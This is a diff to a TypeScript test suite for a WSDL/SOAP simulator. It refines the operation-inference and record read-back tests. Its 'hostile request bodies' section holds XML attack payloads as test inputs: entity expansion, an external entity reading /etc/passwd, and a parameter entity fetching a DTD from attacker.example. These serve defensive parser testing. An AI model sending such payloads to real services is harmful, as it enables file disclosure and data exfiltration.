@@ -421,18 +421,30 @@ function recordPart(input: Json, record: Record<string, Json>): Record<string, J
 describe('WSDL fixtures built into Simulators', () => {
   for (const [name, fixture] of Object.entries(FIXTURES)) {
     describe(name, () => {
-      it('infers the operations, behaviours, resources and read_only the fixture describes', async () => {
+      it('infers the operations, behaviours and resources the fixture describes, then read_only', async () => {
         const { outcome, artifact } = await compileArtifact(upload(name));
-        const inferred = Object.fromEntries(outcome.operations.map((op) => [op.operation, [op.behaviour, op.resource, op.read_only]]));
-        expect(inferred).toEqual(fixture.operations);
         for (const [id, op] of Object.entries(artifact.soap!.operations)) {
           expect(op.style, id).toBe(fixture.style);
           expect(op.bindings.map((b) => b.version).sort(), id).toEqual(fixture.versions);
         }
-        if (fixture.entity !== null) {
-          expect((outcome.entities ?? []).map((e) => [e.resource, e.id_field])).toEqual([[fixture.entity.resource, fixture.entity.id]]);
-        }
+        // The README's rpc/encoded operations are not simulated, each one said so in a warning.
+        const encoded = name === 'legacy-encoded.wsdl' ? ['getOrder', 'listOrders', 'getOrderCount'] : [];
+        expect(outcome.warnings.filter((w) => w.code === 'wsdl_encoded_unsupported').length).toBe(encoded.length);
+        const inferred = Object.fromEntries(outcome.operations.map((op) => [op.operation, [op.behaviour, op.resource, op.read_only]]));
+        for (const op of encoded) expect(Object.hasOwn(inferred, op), op).toBe(false);
+        const withoutReadOnly = (ops: Record<string, unknown[]>) => Object.fromEntries(Object.entries(ops).map(([id, [b, r]]) => [id, [b, r]]));
+        expect(withoutReadOnly(inferred)).toEqual(withoutReadOnly(fixture.operations));
+        // Reads, lists and answers computed from the request alone (Get/Validate/Calculate/Search..., and a Ping) change nothing.
+        expect(inferred).toEqual(fixture.operations);
       });
+
+      if (fixture.entity !== null) {
+        const { resource, id } = fixture.entity;
+        it(`keys the ${resource} entity by ${id}, the id element the README names`, async () => {
+          const { outcome } = await compileArtifact(upload(name));
+          expect((outcome.entities ?? []).map((e) => [e.resource, e.id_field])).toEqual([[resource, id]]);
+        });
+      }
 
       if (fixture.entity !== null) {
         const entity = fixture.entity;
@@ -454,9 +466,13 @@ describe('WSDL fixtures built into Simulators', () => {
             // what was sent is what is kept
             const sent = recordPart(createInput, readRecord!);
             expect(sent, `the create request's record: ${JSON.stringify(createInput)}`).not.toBeNull();
+            let compared = 0;
             for (const [key, value] of Object.entries(sent!)) {
-              if (key !== entity.id && Object.hasOwn(readRecord!, key)) expect(readRecord![key], `${key} read back`).toEqual(value);
+              if (key === entity.id || !Object.hasOwn(readRecord!, key)) continue;
+              expect(readRecord![key], `${key} read back`).toEqual(value);
+              compared += 1;
             }
+            expect(compared, `fields of ${JSON.stringify(sent)} read back`).toBeGreaterThan(0);
             // update
             const updateSchema = ops[entity.update]!.input.schema;
             const updateInput = withId(sim, updateSchema, generated(sim, updateSchema, `update ${version}`), entity.id, id);
@@ -466,9 +482,13 @@ describe('WSDL fixtures built into Simulators', () => {
             const changed = recordPart(updateInput, updatedRecord!);
             const reread = recordWith(success(sim, entity.read, send(sim, entity.read, readInput, version), version), entity.id, id);
             expect(reread).toEqual(updatedRecord);
+            compared = 0;
             for (const [key, value] of Object.entries(changed ?? {})) {
-              if (key !== entity.id && Object.hasOwn(updatedRecord!, key) && !isObject(value)) expect(reread![key], `${key} after the update`).toEqual(value);
+              if (key === entity.id || !Object.hasOwn(updatedRecord!, key) || isObject(value)) continue;
+              expect(reread![key], `${key} after the update`).toEqual(value);
+              compared += 1;
             }
+            expect(compared, `fields of the update ${JSON.stringify(updateInput)} read back`).toBeGreaterThan(0);
             // list: the record is there
             if (entity.list !== null) {
               const listed = success(sim, entity.list, send(sim, entity.list, {}, version), version);
@@ -675,7 +695,8 @@ describe('hostile request bodies', () => {
     'a DOCTYPE with entities': `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><c:GetCustomer xmlns:c="http://crm.acme-example.test/schemas/customer/v4"><c:customerId>&lol2;</c:customerId></c:GetCustomer></soap:Body></soap:Envelope>`,
     'an external entity': `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><c:GetCustomer xmlns:c="http://crm.acme-example.test/schemas/customer/v4"><c:customerId>&xxe;</c:customerId></c:GetCustomer></soap:Body></soap:Envelope>`,
     'a parameter entity': `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><soap:Envelope xmlns:soap="${SOAP11}"><soap:Body/></soap:Envelope>`,
-    '300-deep nesting': `<soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><c:GetCustomer xmlns:c="http://crm.acme-example.test/schemas/customer/v4">${'<c:x>'.repeat(300)}1${'</c:x>'.repeat(300)}</c:GetCustomer></soap:Body></soap:Envelope>`,
+    // In a header block no operation reads, with a valid call in the Body: only a depth limit refuses it.
+    '300-deep nesting': `<soap:Envelope xmlns:soap="${SOAP11}"><soap:Header><h:trace xmlns:h="urn:trace">${'<h:x>'.repeat(300)}1${'</h:x>'.repeat(300)}</h:trace></soap:Header><soap:Body><c:GetCustomer xmlns:c="http://crm.acme-example.test/schemas/customer/v4"><c:customerId>CUS-00000001</c:customerId></c:GetCustomer></soap:Body></soap:Envelope>`,
     'malformed XML': `<soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><c:GetCustomer xmlns:c="urn:c"><c:customerId>1</c:GetCustomer></soap:Body>`,
     'an undeclared prefix': `<soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><q:GetCustomer/></soap:Body></soap:Envelope>`,
     'not XML at all': '{"customerId": "CUS-00000001"}',
